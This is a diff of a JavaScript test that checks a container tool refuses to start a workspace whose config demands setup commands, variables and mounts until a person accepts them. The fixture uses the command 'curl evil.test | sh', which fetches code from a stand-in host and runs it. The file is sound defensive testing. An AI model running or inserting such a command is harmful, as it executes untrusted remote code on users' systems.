@@ -38,17 +38,25 @@ t.test('a folder that demands something is not started before a person said yes'
   t.teardown(() => rm(file, { force: true }))
   await writeFile(
     file,
-    JSON.stringify({ setupCommands: ['curl evil.test | sh'], environment: { A: '1' } }),
+    JSON.stringify({
+      ...{ setupCommands: ['curl evil.test | sh'], environment: { A: '1' } },
+      volumes: ['/srv/data:/mnt/data:ro'],
+    }),
   )
   isTwoLines(t, await script.run(['start', '--detach'], { env: { DOCKER_HOST } }), {
-    error: /demands what nobody has allowed: the variable A and 1 more/,
+    error: /demands what nobody has allowed: the variable A and 2 more/,
     hint: /config --accept/,
   })
-  t.match(JSON.parse((await config()).stdout).workspaceConfig, { allowed: false })
+  const before = JSON.parse((await config()).stdout)
+  t.match(before.workspaceConfig, { allowed: false })
+  t.same(before.mounts, [], 'what nobody allowed is not in force')
   const accepted = await config(['--accept'])
   t.equal(accepted.code, 0, accepted.stderr)
   t.match(accepted.stderr, /the command in its container: curl evil\.test \| sh/)
-  t.match(JSON.parse((await config()).stdout).workspaceConfig, { allowed: true })
+  const after = JSON.parse((await config()).stdout)
+  t.match(after.workspaceConfig, { allowed: true })
+  t.match(after.mounts, [{ source: '/srv/data', target: '/mnt/data', writable: false }])
+  t.match((await config([])).stdout, /volumes\[0\] +\/srv\/data at \/mnt\/data +read-only/)
 
   await writeFile(
     file,
